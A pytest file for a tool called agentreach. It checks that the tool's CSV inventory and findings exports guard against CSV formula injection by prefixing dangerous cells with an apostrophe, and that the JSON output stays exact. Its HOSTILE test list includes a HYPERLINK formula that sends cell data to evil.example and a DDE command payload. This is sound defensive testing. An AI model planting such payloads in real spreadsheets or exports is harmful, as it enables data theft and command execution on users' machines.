"""CSV injection (issue 20, item 6): no cell of a CSV this project writes begins with a formula.

The rule is OWASP's (www-community, attacks/CSV_Injection): a cell must not begin with ``=``,
``+``, ``-``, ``@``, tab, CR or LF; such a cell gets a leading apostrophe, and the csv module keeps
quoting separators, quotes and line ends.  Names planted in the estate go through the real
paths: a store on SQLite and ``agentreach inventory --format csv`` for the inventory, the report
renderer for the findings.  The JSON of the same objects stays byte for byte what was stored.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from agentreach.cli import main
from agentreach.model import Credential, Edge, EdgeKind, Identity
from agentreach.report import render
from agentreach.report.csv import FORMULA_START, formula_safe
from agentreach.store import Store

ACCT = "123456789012"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\nx",
    "  =1+1",  # an importer that trims spaces would see a formula
    "-",  # the table's placeholder: begins with "-", so it is prefixed like any other
    "-42",  # a negative number: prefixed too (OWASP lists no exception)
]
BENIGN = ["agent-runner", "a=b", "x-1", "'quoted", "", "AKIA+EXAMPLE"]


def dangerous(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_START)


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_get_an_apostrophe(text: str) -> None:
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("text", BENIGN)
def test_other_cells_are_left_alone(text: str) -> None:
    assert formula_safe(text) == text


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not dangerous(cell), (cell, row)


@pytest.fixture()
def hostile_db(tmp_path: Path) -> tuple[str, dict[str, str]]:
    """A snapshot whose names, native ids, accounts, regions, owners and ids are hostile."""
    store = Store(tmp_path / "hostile.db")
    sid = store.begin_snapshot(config_digest="x", connectors={"aws": "t"}, options={})
    nodes: list[Identity | Credential] = []
    edges: list[Edge] = []
    owners: dict[str, dict[str, str]] = {}
    planted: dict[str, str] = {}  # node id -> the hostile name it carries
    for i, text in enumerate(HOSTILE):
        ident = Identity(id=f"{text}-identity-{i}" if i % 2 else f"aws:iam_user:u{i}", provider="aws", source="aws",
                         type="aws_iam_user", name=text, native_id=f"arn:aws:iam::{ACCT}:user/u{i}",
                         account=HOSTILE[(i + 1) % len(HOSTILE)], region=HOSTILE[(i + 2) % len(HOSTILE)])
        cred = Credential(id=f"aws:access_key:k{i}", provider="aws", source="aws", type="aws_access_key",
                          name=f"k{i}", native_id=text, account=ACCT)
        nodes += [ident, cred]
        edges.append(Edge(src=cred.id, dst=ident.id, kind=EdgeKind.AUTHENTICATES, source="aws"))
        owners[ident.id] = {"name": HOSTILE[(i + 3) % len(HOSTILE)], "status": "owned"}
        planted[ident.id] = text
    store.add_nodes(sid, nodes)
    store.add_edges(sid, edges)
    store.put_annotations(sid, "owner", owners)
    store.finish_snapshot(sid, status="complete")
    store.close()
    return str(tmp_path / "hostile.db"), planted


def inventory(db: str, fmt: str) -> str:
    result = CliRunner().invoke(main, ["--db", db, "inventory", "--format", fmt])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_inventory_csv_has_no_formula_cell(hostile_db: tuple[str, dict[str, str]]) -> None:
    db, planted = hostile_db
    rows = rows_of(inventory(db, "csv"))
    header, body = rows[0], rows[1:]
    objects = json.loads(inventory(db, "json"))["objects"]
    assert len(body) == len(objects) == 2 * len(HOSTILE)  # no CR or LF opened a row of its own
    assert all(len(row) == len(header) for row in body)  # no separator opened a cell of its own
    assert_no_formula(rows)
    by_name = {row[header.index("id")]: row for row in body}
    for node_id, text in planted.items():
        row = by_name["'" + node_id if dangerous(node_id) else node_id]
        assert row[header.index("name")] == "'" + text  # the apostrophe is all that was added
    credential_cells = {row[header.index("native_id")] for row in body if row[header.index("kind")] == "credential"}
    assert credential_cells == {"'" + text for text in HOSTILE}
    identity_cells = {row[header.index("identity")] for row in body if row[header.index("kind")] == "credential"}
    assert {"'" + i for i in planted if dangerous(i)} <= identity_cells


def test_inventory_json_stays_exact(hostile_db: tuple[str, dict[str, str]]) -> None:
    db, planted = hostile_db
    objects = {o["id"]: o for o in json.loads(inventory(db, "json"))["objects"]}
    for node_id, text in planted.items():
        assert objects[node_id]["name"] == text
    assert {o["native_id"] for o in objects.values() if o["kind"] == "credential"} == set(HOSTILE)


def hostile_report() -> dict:
    findings = [
        {"rule": "AR-AGENT-OWNERLESS", "severity": "high", "title": text, "subject": f"aws:iam_user:{text}",
         "subject_name": text, "subject_type": "aws_iam_user", "account": HOSTILE[(i + 1) % len(HOSTILE)],
         "evidence": [text, "plain evidence"], "frameworks": [HOSTILE[(i + 2) % len(HOSTILE)]],
         "fingerprint": f"{i:064x}"}
        for i, text in enumerate(HOSTILE)
    ]
    return {"summary": {}, "findings": findings, "rules": []}


def test_findings_csv_has_no_formula_cell() -> None:
    report = hostile_report()
    rows = rows_of(render("csv", report))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE) and all(len(row) == len(header) for row in body)
    assert_no_formula(rows)
    titles = [row[header.index("title")] for row in body]
    # the report's cells are one line each: leading tab, CR and LF are whitespace it drops
    assert titles == [formula_safe(" ".join(text.split())) for text in HOSTILE]
    assert all(t.startswith("'") for t, text in zip(titles, HOSTILE, strict=True) if text.strip(" \t\r\n")[0] in "=+-@")


def test_findings_json_stays_exact() -> None:
    report = hostile_report()
    assert json.loads(render("json", report))["findings"] == report["findings"]
